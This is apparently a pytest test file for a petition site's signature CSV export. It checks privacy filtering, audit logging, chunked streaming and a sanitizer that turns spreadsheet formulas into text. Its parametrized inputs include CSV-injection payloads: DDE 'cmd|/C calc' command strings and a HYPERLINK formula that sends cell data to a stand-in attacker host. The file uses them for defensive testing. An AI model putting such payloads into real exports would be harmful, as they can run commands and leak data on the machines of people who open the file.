"""The table of signatures: what the public reads and nothing more, harmless in a spreadsheet, streamed."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import UTC, datetime, timedelta

import pytest

from petitions.documents.tables import pieces, plain
from petitions.flows import exports, letters, reviews
from petitions.models import Appear, Signature, Workplace
from tests.admin.posts import page
from tests.factories import make_letter, sign, sign_many, sign_sealed, signature_of

pytestmark = pytest.mark.django_db

HEADER = "name,role,workplace,statement,signed_on,version"


def exported(client, letter) -> str:
    answer = client.post(page("signatures_export", letter))
    assert answer.status_code == 200
    assert answer.streaming
    return b"".join(answer.streaming_content).decode()


def lines(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_it_holds_the_lines_of_the_public_list(letter, as_owner, owner, client):
    sign(letter, "Ada Lovelace", role="Engineer", statement='Because "we" must,\nall')
    hidden = sign(letter, "Grace Hopper", statement="Not reviewed yet")
    sign(letter, appear=Appear.ROLE, role="Nurse")
    sign(letter, appear=Appear.ANONYMOUS)
    sign_sealed(letter)
    sign(letter, "Раypal Person", role="Secret")  # mixes alphabets: under review
    ada = letter.signatures.get(name="Ada Lovelace")
    reviews.show_statement(ada, seen=ada.words_digest, is_shown=True, by=owner)

    text = exported(as_owner, letter)

    day = datetime.now(UTC).date().isoformat()
    assert text.startswith(f"\ufeff{HEADER}\r\n")
    assert lines(text)[1:] == [
        ["name under review", "", "", "", day, "1"],
        ["", "Nurse", "", "", day, "1"],
        ["Grace Hopper", "", "", "", day, "1"],
        ["Ada Lovelace", "Engineer", "", 'Because "we" must,\nall', day, "1"],
    ]
    told = client.get(f"/api/v1/letters/{letter.slug}/signatures/").json()["signatures"]
    assert [[row["name"], row["role"], row["statement"]] for row in told] == [
        [row[0], row[1], row[3]] for row in lines(text)[1:]
    ]
    for secret in (str(signature_of(hidden).pk), hidden, "Secret", "example.test"):
        assert secret not in text


def test_it_says_where_people_sign_if_there_are_several_workplaces(letter, as_owner):
    sign(letter, "Ada Lovelace")
    Signature.objects.update(workplace=Workplace.objects.create(name="=The Works"))
    assert lines(exported(as_owner, letter))[1][2] == "'=The Works"


def test_words_are_in_the_language_of_whoever_asks(letter, as_owner):
    sign(letter, "Раypal Person")
    answer = as_owner.post(page("signatures_export", letter), headers={"Accept-Language": "es"})
    assert "nombre en revisión" in b"".join(answer.streaming_content).decode()


@pytest.mark.parametrize("role", ["reviewer", "editor", "owner"])
def test_each_member_exports_and_it_is_written_down(letter, member, as_owner, role):
    client = as_owner if role == "owner" else member(letter, role)
    asked = client.get(page("signatures_export", letter))
    assert "That you exported it is written down" in asked.content.decode()
    assert not letter.events.filter(verb="signatures_exported").exists()

    exported(client, letter)

    event = letter.events.get(verb="signatures_exported")
    assert event.actor.memberships.get(letter=letter).role == role


def test_a_draft_has_nothing_to_export(draft, as_owner):
    assert as_owner.post(page("signatures_export", draft)).status_code == 303


def test_who_withdrew_or_was_forgotten_is_not_in_it(letter, as_owner):
    sign(letter, "Ada Lovelace")
    letters.close(letter)
    Signature.objects.update(name="", search="", receipt_hash=None)
    assert lines(exported(as_owner, letter)) == [HEADER.split(",")]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example.test/?x="&A1,"Ada")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tAda",
        "\rAda",
        "  =1+1",
        '"=1+1"',
        "'=1+1",
        "“=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹦1",
        "﹢1",
        "﹣1",
        "﹫SUM(1)",
        "−1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\u00a0=1+1",
        " \u2003\"' =1+1",
        '=cmd|"/C calc"!A0',
        '%0A-3+3+cmd|" /C calc"!D2'.replace("%0A", "\n"),
    ],
)
def test_formulas_are_text(cell):
    assert plain(cell) == f"'{cell}" or plain(cell).startswith("'")
    assert plain(cell).replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("cell", ["\t=1+1", "x;=1+1", "@SUM(1)", "\tAda", " \u2003\"' =1+1", "\u2212" + "1"])
@pytest.mark.parametrize("at", [0, 3])
def test_one_look_at_all_rows_overlooks_no_formula(cell, at):
    """Where nothing is suspect the rows go out as they are."""
    rows = [["Ada-Lovelace", "Engineer", "", "Yes; all = one", "2026-01-01", "1"] for _ in range(3)]
    rows[1][at] = cell

    told = lines(b"".join(pieces(["h"], [rows])).decode())

    assert told[2][at] == plain(cell) != cell
    assert [*told[1:2], *told[3:]] == [rows[0], rows[2]]


@pytest.mark.parametrize(
    ("cell", "kept"),
    [
        ("x;=1+1;y", "x;'=1+1;y"),
        ('x"; =1+1', "x\";' =1+1"),
        ("x\t=1+1", "x\t'=1+1"),
        ("x\n@SUM(1)", "x\n'@SUM(1)"),
    ],
)
def test_where_a_country_cuts_at_another_sign_the_piece_is_text_too(cell, kept):
    assert plain(cell) == kept


@pytest.mark.parametrize(
    "cell",
    ["", "Ada Lovelace", "Jean-Luc", "O'Brien", "a = b", "1 + 1", "C++", "мария", "李", "a, -b", "x@y"],
)
def test_what_is_no_formula_stays_as_it_was(cell):
    assert plain(cell) == cell


def test_it_never_holds_more_than_a_chunk(monkeypatch):
    """Ten times as many rows take the same memory; with chunks of a tenth, so that few rows show it."""
    monkeypatch.setattr(exports, "CHUNK", 200)
    letter, larger = make_letter(), make_letter()
    sign_many(letter, 400)
    sign_many(larger, 4_000)
    by = letter.memberships.get().user
    most_held(exports.signatures(letter, by=by))  # what is read once and stays

    few, many = most_held(exports.signatures(letter, by=by)), most_held(exports.signatures(larger, by=by))

    assert (few[0], many[0]) == (400, 4_000)
    assert many[1] < few[1] * 1.3


def most_held(pieces) -> tuple[int, int]:
    """How many lines came, and how many bytes were held at once at the most."""
    next(pieces)
    tracemalloc.start()
    try:
        number = sum(piece.count(b"\r\n") for piece in pieces)
        return number, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("apart", [timedelta(0), timedelta(microseconds=1), timedelta(seconds=1), None])
def test_each_row_comes_once_however_the_chunks_fall(letter, owner, monkeypatch, apart):
    """Also with the times that the database's own clock has written."""
    monkeypatch.setattr(exports, "CHUNK", 3)
    for number in range(10):
        sign(letter, f"Ada {chr(65 + number)}")
    for number, signature in enumerate(letter.signatures.all() if apart is not None else []):
        Signature.objects.filter(pk=signature.pk).update(
            signed_at=datetime(2026, 1, 1, tzinfo=UTC) + apart * number
        )

    rows = lines(b"".join(exports.signatures(letter, by=owner)).decode())[1:]

    listed = letter.signatures.all().named().latest_first()
    assert [row[0] for row in rows] == [signature.name for signature in listed]
